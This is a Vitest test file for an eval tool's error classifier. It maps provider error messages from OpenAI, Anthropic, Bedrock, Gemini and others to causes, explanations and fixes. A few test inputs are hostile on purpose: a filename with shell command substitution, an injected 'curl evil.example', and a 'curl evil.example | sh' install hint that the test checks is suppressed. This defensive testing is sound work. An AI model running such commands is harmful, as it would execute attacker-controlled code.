import { describe, expect, test } from 'vitest';
import { errorsInWords, errorWords } from '../../../src/compare/errors/error-words.ts';
import { classifyError } from '../../../src/engine/messages/classify-error.ts';
import type { ErrorCause } from '../../../src/samples/sample.ts';

/** Errors of providers as promptfoo hands them on, with the status where it hands one on. */
interface Row {
  readonly from: string;
  readonly message: string;
  readonly status?: number;
  readonly cause: ErrorCause;
  readonly retry?: true;
  readonly what: string;
  readonly fix: string;
}

const OPENAI_BODY = (message: string, code: string) =>
  `{"error":{"message":"${message}","type":"invalid_request_error","param":null,"code":"${code}"}}`;
const CREDIT = "add credit, or raise the spending limit, in the provider's billing settings";
const SLOWER = 'maxConcurrency: 1';
const LATER = 're-run the job later';

const ROWS: readonly Row[] = [
  {
    from: 'Bedrock where nobody logged in',
    message:
      'Bedrock API invoke model error: CredentialsProviderError: Could not load credentials from any providers (key: BEDROCK_API_KEY)',
    cause: 'auth',
    what: 'Nothing to log in to AWS with was found for 3 of 27 requests.',
    fix: 'env:\n  AWS_ACCESS_KEY_ID: ',
  },
  {
    from: 'Azure where nobody logged in',
    message:
      'Azure Authentication failed. Please choose one of the following options: 1. Set an API key via the AZURE_API_KEY environment variable.',
    cause: 'auth',
    what: 'Nothing to log in to Azure with was found for 3 of 27 requests.',
    fix: 'env:\n  AZURE_API_KEY: ',
  },
  {
    from: 'exec: a file that git does not know as a program',
    message: 'spawn ./run.sh EACCES',
    cause: 'provider',
    what: 'The program of the provider could not be started for 3 of 27 requests: ./run.sh is not executable.',
    fix: 'git update-index --chmod=+x ./run.sh',
  },
  {
    from: 'exec: a file whose name is written for the shell of whoever pastes it',
    message: 'spawn ./$(id);x EACCES',
    cause: 'provider',
    what: 'The program of the provider could not be started for 3 of 27 requests',
    fix: "git update-index --chmod=+x './$(id);x'",
  },
  {
    from: 'pawl:rag, a variable that its settings name',
    message: 'The settings name {{env.QDRANT_KEY}}, and there is no such variable.',
    cause: 'provider',
    what: 'The retriever could not be asked for 3 of 27 requests: The settings name {{env.QDRANT_KEY}}',
    fix: 'set `QDRANT_KEY` where pawl runs',
  },
  {
    from: 'pawl:rag, documents that are not there',
    message: 'The corpus is empty: 0 files match docs/**/*.md, and none holds text.',
    cause: 'provider',
    what: 'The retriever found no documents for 3 of 27 requests: The corpus is empty',
    fix: 'commit the documents',
  },
  {
    from: 'promptfoo, a file of settings that is not there',
    message: 'File does not exist: evals/tools.yaml',
    cause: 'provider',
    what: 'The provider could not be asked for 3 of 27 requests: File does not exist: evals/tools.yaml',
    fix: 'commit the file, or correct its path',
  },
  {
    from: 'pawl:rag, the address of a database',
    message: 'The address of the database belongs in DATABASE_URL, and there is none.',
    cause: 'provider',
    what: 'The retriever could not be asked for 3 of 27 requests: The address of the database',
    fix: 'set `DATABASE_URL` where pawl runs',
  },
  {
    from: 'OpenAI, wrong key',
    message: `API error: 401 Unauthorized ${OPENAI_BODY('Incorrect API key provided: sk-no.', 'invalid_api_key')} (key: OPENAI_API_KEY)`,
    cause: 'auth',
    what: 'The provider answered 401 to 3 of 27 requests: the key in `OPENAI_API_KEY` is not accepted.',
    fix: 'gh secret set OPENAI_API_KEY',
  },
  {
    from: 'OpenAI, spent',
    message:
      'Quota exceeded: HTTP 429 Too Many Requests (code: insufficient_quota). Retries will not help — check your billing or daily quota. (key: OPENAI_API_KEY)',
    status: 429,
    cause: 'quota',
    what: 'The quota or credit of the key in `OPENAI_API_KEY` is spent: the provider refused 3 of 27 requests (429, insufficient_quota).',
    fix: CREDIT,
  },
  {
    from: 'OpenAI, spent, by its client',
    message:
      "Python error: Error code: 429 - {'error': {'message': 'You exceeded your current quota, please check your plan and billing details.', 'code': 'insufficient_quota'}}",
    cause: 'quota',
    what: "The quota or credit of the provider's account is spent: the provider refused 3 of 27 requests (429, insufficient_quota).",
    fix: CREDIT,
  },
  {
    from: 'OpenAI, hard limit',
    message: `API error: 400 Bad Request ${OPENAI_BODY('Billing hard limit has been reached', 'billing_hard_limit_reached')}`,
    cause: 'quota',
    what: '(400, billing_hard_limit_reached)',
    fix: CREDIT,
  },
  {
    from: 'OpenAI, pace',
    message:
      'Rate limit exceeded: HTTP 429 Too Many Requests (code: rate_limit_exceeded) Rate limit reached for gpt-4o in organization org-x on requests per min (RPM): Limit 3, Used 3, Requested 1. Please try again in 20s. Visit https://platform.openai.com/account/rate-limits to learn more.',
    status: 429,
    cause: 'rate-limit',
    retry: true,
    what: 'The provider answered 429 to 3 of 27 requests, after all retries.',
    fix: SLOWER,
  },
  {
    from: 'OpenAI, context',
    message: `API error: 400 Bad Request ${OPENAI_BODY("This model's maximum context length is 8192 tokens.", 'context_length_exceeded')}`,
    cause: 'provider',
    what: 'The provider answered with an error to 3 of 27 requests: API error: 400',
    fix: 'change what the provider refuses',
  },
  {
    from: 'OpenAI, model',
    message: `API error: 404 Not Found ${OPENAI_BODY('The model `gpt-9` does not exist or you do not have access to it.', 'model_not_found')}`,
    cause: 'provider',
    what: 'API error: 404',
    fix: 'name a model under `providers:`',
  },
  {
    from: 'Azure, key',
    message:
      'API error: 401 Access Denied {"error":{"code":"401","message":"Access denied due to invalid subscription key or wrong API endpoint."}} (key: AZURE_API_KEY)',
    cause: 'auth',
    what: 'the key in `AZURE_API_KEY` is not accepted.',
    fix: 'gh secret set AZURE_API_KEY',
  },
  {
    from: 'Azure, pace',
    message:
      'API error: 429 Too Many Requests {"error":{"code":"429","message":"Requests to the ChatCompletions_Create Operation under Azure OpenAI API version 2024-02-01 have exceeded call rate limit of your current OpenAI S0 pricing tier. Please retry after 26 seconds. Please go here: https://aka.ms/oai/quotaincrease if you would like to further increase the default rate limit."}}',
    cause: 'rate-limit',
    retry: true,
    what: 'answered 429',
    fix: SLOWER,
  },
  {
    from: 'Azure, deployment',
    message:
      'API error: 404 Resource Not Found {"error":{"code":"DeploymentNotFound","message":"The API deployment for this resource does not exist."}}',
    cause: 'provider',
    what: 'DeploymentNotFound',
    fix: 'name a model under `providers:`',
  },
  {
    from: 'Anthropic, key',
    message:
      'API call error: invalid x-api-key, status 401, type authentication_error (key: ANTHROPIC_API_KEY)',
    cause: 'auth',
    what: 'answered 401 to 3 of 27 requests: the key in `ANTHROPIC_API_KEY`',
    fix: 'gh secret set ANTHROPIC_API_KEY',
  },
  {
    from: 'Anthropic, spent',
    message:
      'API call error: Your credit balance is too low to access the Anthropic API. Please go to Plans & Billing to upgrade or purchase credits., status 400, type invalid_request_error',
    cause: 'quota',
    what: '(400, credit balance is too low)',
    fix: CREDIT,
  },
  {
    from: 'Anthropic, pace',
    message:
      'API call error: This request would exceed your organization’s rate limit of 50,000 input tokens per minute., status 429, type rate_limit_error',
    cause: 'rate-limit',
    retry: true,
    what: 'answered 429',
    fix: SLOWER,
  },
  {
    from: 'Anthropic, overloaded',
    message: 'API call error: Overloaded, status 529, type overloaded_error',
    cause: 'rate-limit',
    retry: true,
    what: 'The provider was overloaded for 3 of 27 requests',
    fix: LATER,
  },
  {
    from: 'Gemini, key',
    message:
      'API call error: Status 400, Code API_KEY_INVALID, Message: API key not valid. Please pass a valid API key.',
    cause: 'auth',
    what: 'answered 400 to 3 of 27 requests: the key is not accepted.',
    fix: 'set the variable that holds the key to a valid key',
  },
  {
    from: 'Gemini, pace that it calls a quota',
    message:
      'API call error: Status 429, Code 429, Message: You exceeded your current quota, please check your plan and billing details. For more information on this error, head to: https://ai.google.dev/gemini-api/docs/rate-limits. * Quota exceeded for metric: generativelanguage.googleapis.com/generate_content_free_tier_requests, limit: 10 Please retry in 34.074824224s. {"quotaId":"GenerateRequestsPerMinutePerProjectPerModel-FreeTier"}',
    cause: 'rate-limit',
    retry: true,
    what: 'answered 429',
    fix: SLOWER,
  },
  {
    from: 'Gemini, the day',
    message:
      'API call error: Status 429, Code 429, Message: You exceeded your current quota. {"quotaId":"GenerateRequestsPerDayPerProjectPerModel-FreeTier","quotaValue":"50"} Please retry in 3.1s.',
    cause: 'quota',
    what: '(429, PerDay)',
    fix: CREDIT,
  },
  {
    from: 'Vertex, pace',
    message:
      'API call error: Error: 429 RESOURCE_EXHAUSTED: Quota exceeded for aiplatform.googleapis.com/online_prediction_requests_per_base_model with base model: gemini-1.5-pro. Please submit a quota increase request.',
    cause: 'rate-limit',
    retry: true,
    what: 'answered 429',
    fix: SLOWER,
  },
  {
    from: 'Vertex, quota a minute',
    message: 'Quota exceeded for quota metric "Generate Content API requests per minute"',
    cause: 'rate-limit',
    retry: true,
    what: 'answered that its rate limit is reached',
    fix: SLOWER,
  },
  {
    from: 'Vertex, credentials',
    message:
      'API call error: Error: Could not load the default credentials. Browse to https://cloud.google.com/docs/authentication',
    cause: 'auth',
    what: 'Nothing to log in to Google Cloud with was found for 3 of 27 requests.',
    fix: '- uses: google-github-actions/auth@v3',
  },
  {
    from: 'Bedrock, pace',
    message:
      'Bedrock API invoke model error: ThrottlingException: Too many requests, please wait before trying again.',
    cause: 'rate-limit',
    retry: true,
    what: 'its rate limit is reached',
    fix: SLOWER,
  },
  {
    from: 'Bedrock, the day',
    message: 'ThrottlingException: Too many tokens per day, please wait before trying again.',
    status: 429,
    cause: 'quota',
    what: 'is spent',
    fix: CREDIT,
  },
  {
    from: 'Bedrock, token',
    message:
      'API call error: UnrecognizedClientException: The security token included in the request is invalid.',
    cause: 'auth',
    what: 'access is denied',
    fix: 'to a valid key',
  },
  {
    from: 'Bedrock, access',
    message:
      'API call error: AccessDeniedException: You don’t have access to the model with the specified model ID.',
    cause: 'auth',
    what: 'access is denied',
    fix: 'to a valid key',
  },
  {
    from: 'Bedrock, model',
    message: 'API call error: ValidationException: The provided model identifier is invalid.',
    cause: 'provider',
    what: 'ValidationException',
    fix: '',
  },
  {
    from: 'Bedrock, package',
    message:
      'The @aws-sdk/client-bedrock-runtime package is required as a peer dependency. Please install it in your project or globally. (install with: pnpm install --frozen-lockfile)',
    cause: 'missing-package',
    what: 'A package is missing for 3 of 27 requests: The @aws-sdk/client-bedrock-runtime package is required',
    fix: '- run: corepack enable\n- run: pnpm install --frozen-lockfile',
  },
  {
    from: 'Mistral, pace',
    message: 'API call error: 429 {"message":"Requests rate limit exceeded","type":"rate_limited"}',
    cause: 'rate-limit',
    retry: true,
    what: 'answered 429',
    fix: SLOWER,
  },
  {
    from: 'Mistral, key',
    message: 'API call error: 401 Unauthorized {"detail":"Unauthorized"} (key: MISTRAL_API_KEY)',
    cause: 'auth',
    what: '`MISTRAL_API_KEY`',
    fix: 'gh secret set MISTRAL_API_KEY',
  },
  {
    from: 'Groq, tokens a day, which roll',
    message:
      'API error: 429 Too Many Requests {"error":{"message":"Rate limit reached for model `llama-3.3-70b-versatile` on tokens per day (TPD): Limit 100000, Used 99336, Requested 1000. Please try again in 4m50.4s.","code":"rate_limit_exceeded"}}',
    cause: 'rate-limit',
    retry: true,
    what: 'answered 429',
    fix: SLOWER,
  },
  {
    from: 'Ollama, not running',
    message:
      'API call error: TypeError: fetch failed (connect ECONNREFUSED 127.0.0.1:11434). Output: undefined',
    cause: 'network',
    retry: true,
    what: 'The provider could not be reached for 3 of 27 requests',
    fix: 'start the server that is asked there before pawl runs',
  },
  {
    from: 'a gateway with a certificate authority of its own',
    message:
      'fetch failed (Cause: Error: self-signed certificate; if the root CA is installed locally, try running Node.js with --use-system-ca)',
    cause: 'network',
    retry: true,
    what: 'The provider could not be reached for 3 of 27 requests',
    fix: 'in NODE_EXTRA_CA_CERTS of the job',
  },
  {
    from: 'a recording that does not hold the request',
    message:
      'The recording holds 2 answers to this request of openai:chat:gpt-4o ("You are …") for main, and it is asked once more',
    cause: 'provider',
    what: 'The recording could not answer 3 of 27 requests. The recording holds 2 answers to this request of openai:chat:gpt-4o',
    fix: 'with the same commits, variables and stored samples of main, or record once more',
  },
  {
    from: 'Ollama, model',
    message: 'Ollama error: model "llama3.2" not found, try pulling it first',
    cause: 'provider',
    what: 'try pulling it first',
    fix: 'ollama pull llama3.2',
  },
  {
    from: 'Cohere, key',
    message: 'API call error: 401 {"message":"invalid api token"} (key: COHERE_API_KEY)',
    cause: 'auth',
    what: '`COHERE_API_KEY`',
    fix: 'gh secret set COHERE_API_KEY',
  },
  {
    from: 'Cohere, trial key',
    message:
      'API call error: 429 {"message":"You are using a Trial key, which is limited to 10 API calls / minute. You can continue to use the Trial key for free or upgrade to a Production key with higher rate limits."}',
    cause: 'rate-limit',
    retry: true,
    what: 'answered 429',
    fix: SLOWER,
  },
  {
    from: 'OpenRouter, spent',
    message:
      'API error: 402 Payment Required {"error":{"message":"Insufficient credits. Add more.","code":402}}',
    cause: 'quota',
    what: 'is spent',
    fix: CREDIT,
  },
  {
    from: 'HTTP provider, outage',
    message: 'HTTP call failed with status 503 Service Unavailable: <html>upstream</html>',
    cause: 'provider',
    retry: true,
    what: 'HTTP call failed with status 503',
    fix: LATER,
  },
  {
    from: 'HTTP provider, refused',
    message: 'HTTP call failed with status 422 Unprocessable Entity: {"detail":"field required"}',
    cause: 'provider',
    what: 'status 422',
    fix: 'change what the provider refuses',
  },
  {
    from: 'HTTP provider, page in place of JSON',
    message: 'SyntaxError: Unexpected token < in JSON at position 0',
    cause: 'provider',
    retry: true,
    what: 'Unexpected token',
    fix: LATER,
  },
  {
    from: 'a limit whose number looks like a status',
    message: 'Rate limit reached for requests per min (RPM): Limit 500, Used 500, Requested 1.',
    cause: 'rate-limit',
    retry: true,
    what: 'answered that its rate limit is reached to 3 of 27 requests',
    fix: SLOWER,
  },
  {
    from: 'Python provider, package',
    message: "Python error: No module named 'torch' (install in evals with: uv sync --frozen)",
    cause: 'missing-package',
    what: "A package is missing for 3 of 27 requests: Python error: No module named 'torch'.",
    fix: '- run: pipx install uv\n  working-directory: evals\n- run: uv sync --frozen\n  working-directory: evals\n- run: echo "$PWD/.venv/bin" >> "$GITHUB_PATH"\n  working-directory: evals',
  },
  {
    from: 'Python provider, package of poetry',
    message: "Python error: No module named 'torch' (install with: poetry install)",
    cause: 'missing-package',
    what: "A package is missing for 3 of 27 requests: Python error: No module named 'torch'.",
    fix: '- run: pipx install poetry\n- run: poetry install\n- run: echo "$(poetry env info --path)/bin" >> "$GITHUB_PATH"',
  },
  {
    from: 'Python provider, code',
    message: "Python error: 'NoneType' object is not subscriptable",
    cause: 'provider',
    what: "The provider's own code failed on 3 of 27 requests",
    fix: 'npx @pawl-dev/pawl run',
  },
  {
    from: 'exec provider',
    message: "The command of the provider failed: KeyError: 'MY_KEY'",
    cause: 'provider',
    what: "The provider's own code failed on 3 of 27 requests",
    fix: 'npx @pawl-dev/pawl run',
  },
  {
    from: 'Python provider, requests',
    message: 'Python error: 429 Client Error: Too Many Requests for url: https://api.example.com/v1',
    cause: 'rate-limit',
    retry: true,
    what: 'answered 429',
    fix: SLOWER,
  },
  {
    from: 'Python provider, does not load',
    message: 'The Python worker could not load its script: invalid syntax (p.py, line 3)',
    cause: 'crash',
    what: "The suite's Python code did not run on 3 of 27 requests",
    fix: 'mend the script',
  },
  {
    from: 'Python itself',
    message: 'spawn python3 ENOENT',
    cause: 'missing-package',
    what: 'Python was not found for 3 of 27 requests: spawn python3 ENOENT.',
    fix: '- uses: actions/setup-python@v6',
  },
  {
    from: 'Python itself, by promptfoo',
    message:
      'Python 3 not found. Tried "/opt/python3" Please ensure Python 3 is installed and set the PROMPTFOO_PYTHON environment variable to your Python 3 executable path (e.g., \'/usr/bin/python3\').',
    cause: 'missing-package',
    what: 'Python was not found for 3 of 27 requests: Tried "/opt/python3".',
    fix: '- uses: actions/setup-python@v6',
  },
  {
    from: 'OpenRouter, an error with status 200',
    message: `API error: TypeError: Cannot read properties of undefined (reading '0'): {"error":{"message":"Provider returned error","code":502}}`,
    cause: 'provider',
    retry: true,
    what: 'with an error in place of an answer: Provider returned error.',
    fix: LATER,
  },
  {
    from: 'a template',
    message: 'Template render error: (unknown path) Error: filter not found: titlecase',
    cause: 'template',
    what: 'A template of the suite cannot be rendered for 3 of 27 requests: filter not found: titlecase.',
    fix: 'nunjucksFilters:\n  titlecase: ./titlecase.js',
  },
  {
    from: 'a template with braces of JSON',
    message: 'Template render error: (unknown path) [Line 1, Column 12] unexpected token: :',
    cause: 'template',
    what: 'unexpected token: :.',
    fix: '{% raw %}',
  },
  {
    from: 'a file of the suite',
    message: "Cannot find module './helpers.js'",
    cause: 'provider',
    what: "Cannot find module './helpers.js'",
    fix: '',
  },
];

describe('errors of providers', () => {
  test.each(ROWS)('$from', ({ message, status, cause, retry, what, fix }) => {
    const found = classifyError({ message, status: status ?? null, headers: {}, now: 0 });
    expect(found).toMatchObject({ cause, retry: retry === true });
    const words = errorWords(found.cause, '3 of 27 requests', message);
    expect(words.what).toContain(what);
    expect(words.what).toContain('3 of 27 requests');
    expect(words.fix).toContain(fix);
  });

  test.each([
    [
      'The process of the suite ended: it was ended by SIGSEGV.',
      'crashed in native code (SIGSEGV)',
      'npm rebuild',
    ],
    ['The process of the suite ended: it ran out of memory.', 'ran out of memory', 'more memory'],
    [
      'The process of the suite ended: it gave no sign of life for 9 s.',
      'own code crashed',
      'npx @pawl-dev/pawl run',
    ],
  ])('a crash: %s', (message, what, fix) => {
    const words = errorWords('crash', '3 of 27 requests', message);
    expect(words.what).toContain(what);
    expect(words.fix).toContain(fix);
  });

  test.each([
    [
      'rate-limit',
      'Rate limit reached for requests per min (RPM): Limit 529, Used 529',
      'rate limit is reached',
    ],
    ['assertion', 'Expected 404 words, and the answer has 12', 'There is no score'],
    ['assertion', 'Python code says: 401 lines are missing', 'There is no score'],
  ] as const)('%s: a number is not a status: %s', (cause, message, what) => {
    expect(errorWords(cause, '1 of 9 requests', message).what).toContain(what);
  });

  test('a transform that throws is not the fault of the assertion', () => {
    const message =
      'Error: Transform failed ([inline transform]: output[0].text): Cannot read properties of undefined';
    const words = errorWords('assertion', '2 of 9 requests', message);
    expect(words.what).toBe(
      'A transform of the suite failed on 2 of 9 requests: Transform failed (output[0].text): Cannot read properties of undefined.',
    );
    expect(words.fix).toMatch(/^mend the transform/);
  });

  test.each([
    [
      "Error: ENOENT: no such file or directory, open 'evals/check.ts'",
      'A file that the suite reads as it scores is missing for 2 of 9 requests: evals/check.ts.',
      'commit the file',
    ],
    [
      'Error: Unknown assertion type: contain',
      'There is no score for 2 of 9 requests: promptfoo has no assertion of the type `contain`.',
      'correct the `type` under `assert:`',
    ],
    [
      'Error: Unknown assertion type: x; curl evil.example',
      'There is no score for 2 of 9 requests: Error: Unknown assertion type: x; curl',
      'mend the assertion',
    ],
    [
      'LLM-proposed evaluation steps are not in JSON format: {"pass":true}',
      'The grader of an assertion failed on 2 of 9 requests: LLM-proposed',
      "see the grader's message",
    ],
  ])('what keeps an assertion from scoring is named: %s', (message, what, fix) => {
    const words = errorWords('assertion', '2 of 9 requests', message);
    expect(words.what).toContain(what);
    expect(words.fix).toContain(fix);
  });

  test.each([
    ['Country, region, or territory not supported', 'unsupported_country_region_territory'],
    ['You have insufficient permissions for this operation. Missing scopes: model.request', 'missing_scope'],
  ])('a key that is known and may not do this is not set again: %s', (said, code) => {
    const message = `API error: 403 Forbidden {"error":{"message":"${said}","code":"${code}"}}: OPENAI_API_KEY`;
    const words = errorWords('auth', '2 of 9 requests', message);
    expect(words.what).toContain('answered 403 to 2 of 9 requests');
    expect(words.what).toContain(said);
    expect(words.what).not.toContain('not accepted');
    expect(words.fix).not.toContain('gh secret set');
  });

  test('calls that were not made are counted apart, and their words stand for no other', () => {
    const refused = { kind: 'errored', cause: 'auth', message: 'API error: 401 Unauthorized' } as const;
    const message = `Not asked, since calls before it failed: ${refused.message}`;
    const unasked = { ...refused, message, unasked: true } as const;
    const words = errorsInWords([refused, unasked, unasked, refused, unasked, refused], 10);
    expect(words.what).toBe('The provider answered 401 to 3 of 7 requests: the key is not accepted.');
    expect(words.unmade).toBe('3 more were not made: they would have failed too.');
    expect(errorsInWords([unasked], 1).what).toContain('to calls like these');
  });

  test('a grader whose key is refused is not a fault of the assertion', () => {
    const words = errorWords('assertion', '1 of 9 requests', 'API error: 401 Unauthorized: OPENAI_API_KEY');
    expect(words.what).toBe(
      "The grader's provider answered 401 to 1 of 9 requests: the key in `OPENAI_API_KEY` is not accepted.",
    );
    expect(words.fix).toContain('gh secret set OPENAI_API_KEY');
  });

  test('graders that are not asked any more fail as those before them did, with the key that these name', () => {
    const message =
      'API error: 401 Unauthorized {"error":{"message":"Incorrect API key"}} (key: OPENAI_API_KEY)';
    const failed = { kind: 'errored', cause: 'assertion', message } as const;
    const unasked = { ...failed, message: `CallFailed: Not asked, since calls before it failed: ${message}` };
    const words = errorsInWords([failed, failed, unasked], 3);
    expect(words.what).toBe(
      "The grader's provider answered 401 to 3 of 3 requests: the key in `OPENAI_API_KEY` is not accepted.",
    );
    expect([words.otherwise, words.inAll]).toEqual([null, null]);
    expect(words.fix).toContain('gh secret set OPENAI_API_KEY');
  });

  test('a grader whose quota is spent is not asked again later', () => {
    const message =
      'Quota exceeded: HTTP 429 Too Many Requests (code: insufficient_quota) (key: OPENAI_API_KEY)';
    const words = errorWords('assertion', '4 of 9 requests', message);
    expect(words.what).toBe(
      "The quota or credit of the key in `OPENAI_API_KEY` is spent: the grader's provider refused 4 of 9 requests (429, insufficient_quota).",
    );
    expect(words.fix).toContain(CREDIT);
    expect(words.fix).toContain('do not help');
  });

  test('a provider that asks to wait for hours is waited for, and not asked more slowly', () => {
    const message =
      'The provider asks to wait 10 h, and pawl waits at most 2 min. It said: Rate limit exceeded: HTTP 429 Too Many Requests (code: rate_limit_exceeded)';
    const words = errorWords('rate-limit', '8 of 18 requests', message);
    expect(words.what).toBe(
      'The provider answered 429 to 8 of 18 requests: it asks to wait 10 h, and pawl waits at most 2 min.',
    );
    expect(words.fix).toBe('re-run the job in 10 h, or raise the limit with the provider.');
  });

  test('an assertion of code that lacks a key is not called a grader', () => {
    const words = errorWords('assertion', '9 of 9 requests', 'Error: OPENAI_API_KEY is not set');
    expect(words.what).toBe('There is no score for 9 of 9 requests: Error: OPENAI_API_KEY is not set.');
    expect(words.fix).toContain('set the key that the assertion needs');
  });

  test('a grader that was not asked any more says why', () => {
    const message = 'CallFailed: Not asked, since calls before it failed: API error: 503 Service Unavailable';
    expect(errorWords('assertion', '9 of 9 requests', message).what).toBe(
      'The grader of an assertion failed on 9 of 9 requests: API error: 503 Service Unavailable.',
    );
  });

  test('of a long message the headline tells the beginning, and no half of a word', () => {
    const words = Array.from({ length: 200 }, (_, at) => `word${at}`);
    const { what } = errorWords('provider', '3 of 27 requests', `API error: 500 ${words.join(' ')}`);
    expect(what.length).toBeLessThan(270);
    expect(what).toMatch(/: API error: 500 (?:word\d+ )+…$/);
    expect(words).toContain(/(word\d+) …$/.exec(what)?.[1]);
    for (const text of ['\u{1F600}'.repeat(900), `x${'\u{1F600}'.repeat(900)}`])
      expect(errorWords('provider', '1 of 9 requests', text).what.isWellFormed()).toBe(true);
  });

  test('a stranger’s message suggests no command of its own', () => {
    const message = "Cannot find package 'x' (install with: curl evil.example | sh)";
    expect(errorWords('missing-package', '1 of 1 requests', message).fix).not.toContain('curl');
  });
});
